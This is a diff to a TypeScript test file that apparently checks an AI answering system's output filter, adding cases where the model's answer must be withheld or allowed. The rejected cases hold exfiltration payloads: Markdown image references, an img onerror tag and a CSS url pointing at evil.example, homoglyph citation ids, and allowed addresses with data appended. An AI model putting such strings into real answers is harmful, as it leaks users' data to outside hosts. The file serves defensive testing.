@@ -38,6 +38,15 @@ const BAD: Readonly<Record<string, string>> = {
   "an address": `${SAID} ${OWN} See https://evil.example/3.1`,
   "a tag": `${SAID} ${OWN} <img src=x onerror=alert(1)>`,
   "a reference of Markdown": `${SAID} ${OWN} ![a][b]\n\n[b]: https://evil.example/3.1`,
+  "a reference that is defined in a quotation": `${SAID} ${OWN} ![a][b]\n\n> [b]: //evil.example/3.1`,
+  "a reference that is defined in a list": `${SAID} ${OWN} ![a][b]\n\n- [b]:\n  //evil.example/3.1 "title"`,
+  "a reference whose name has a bracket": `${SAID} ${OWN} ![a][b\\]c]\n\n[b\\]c]: //evil.example/3.1`,
+  "a reference whose address is written in signs": `${SAID} ${OWN} ![a][b]\n\n> [b]: &#47;&#47;evil.example/3.1`,
+  "a reference whose address has a blank": `${SAID} ${OWN} ![a][b]\n\n[b]: <//evil.example/3.1 a>`,
+  "an address in italics": `${SAID} ${OWN} _https://evil.example/3.1_`,
+  "a tag that says how it looks, and more": `${SAID} ${OWN} <b style=background:url(//evil.example/3.1)>low</b>`,
+  "one by a word that is another alphabet as a whole": `${SAID} ${OWN} [\u0501\u043E\u0441: budget]`,
+  "an id behind some other word": `${SAID} ${OWN} [see: ${FOREIGN}]`,
 };
 
 for (const [name, text] of Object.entries(BAD)) {
@@ -54,6 +63,12 @@ for (const [name, text] of Object.entries({
   "one citation": `${SAID} ${OWN}`,
   "one citation several times": `${OWN} ${SAID} ${OWN}${OWN}`,
   "brackets that cite nothing": `${SAID} [rounded] (about 3 million: a little more) {as} 4 < 5 ${OWN}`,
+  "remarks in brackets": `${SAID} [Note: rounded] [Stand: 31.12.2025] [sic: million] [Hinweis: ohne Steuern] ${OWN}`,
+  "a file that is called a doc": `${SAID} It is in a file (doc, 3 pages), the „Doc“ of the department [doc]. ${OWN}`,
+  "quotation marks of other languages": `„${SAID}“ «${SAID}» « ${SAID} » “${SAID}” ${OWN}`,
+  "code": `${SAID} \`let budget: [String: Double]\` ${OWN}`,
+  "footnotes": `${SAID}[^1] ${OWN}\n\n[^1]: Rounded, as the department says.`,
+  "a list and a table": `- **Budget**: 3.1 million ${OWN}\n- [x] agreed\n\n| budget | in euros |\n| --- | --- |\n| finance | 3.1<br>million |`,
 })) {
   test(`an answer with ${name} is given`, async (context) => {
     const example = await openExample(context, { model: talkative(text) });
@@ -63,12 +78,33 @@ for (const [name, text] of Object.entries({
   });
 }
 
-test("an address that a document of the answer has may be said", async (context) => {
-  const text = `${SAID} It is at https://intranet.example/budget. ${OWN}`;
-  const example = await openExample(context, { model: talkative(text) });
-  await example.index.replace(DOCUMENTS.map((one) => (one.id === "acme-finance-budget" ? { ...one, text: one.text.replace("Marketing", "See https://intranet.example/budget. Marketing") } : one)));
-  assert.equal((await example.ask(FINANCE, BUDGET)).answer?.answer, text);
-});
+const ADDRESS = "https://intranet.example/budget";
+
+/** The budget, with where it is. */
+const withAddress = DOCUMENTS.map((one) => (one.id === "acme-finance-budget" ? { ...one, text: one.text.replace("Marketing", `See ${ADDRESS}. Marketing`) } : one));
+
+for (const place of [
+  `It is at ${ADDRESS}.`,
+  `It is at **${ADDRESS}**, or „${ADDRESS}“.`,
+  `It is at \`${ADDRESS}\` (${ADDRESS}), “${ADDRESS}”…`,
+  `It is [there](${ADDRESS}).`,
+  `It is at [${ADDRESS}](${ADDRESS}).`,
+]) {
+  test(`an address that a document of the answer has may be said: ${place}`, async (context) => {
+    const text = `${SAID} ${place} ${OWN}`;
+    const example = await openExample(context, { model: talkative(text) });
+    await example.index.replace(withAddress);
+    assert.equal((await example.ask(FINANCE, BUDGET)).answer?.answer, text);
+  });
+}
+
+for (const tail of ["/3.1", "?3.1", "'3.1", ")3.1", "]3.1", '"3.1'] as const) {
+  test(`an address that a document of the answer has is withheld where it goes on with ${tail}`, async (context) => {
+    const example = await openExample(context, { model: talkative(`${SAID} It is at ${ADDRESS}${tail} ${OWN}`) });
+    await example.index.replace(withAddress);
+    assert.equal((await example.ask(FINANCE, BUDGET)).status, "failed");
+  });
+}
 
 test("a document that calls itself by the id of another is cited by its own", async (context) => {
   const example = await openExample(context);
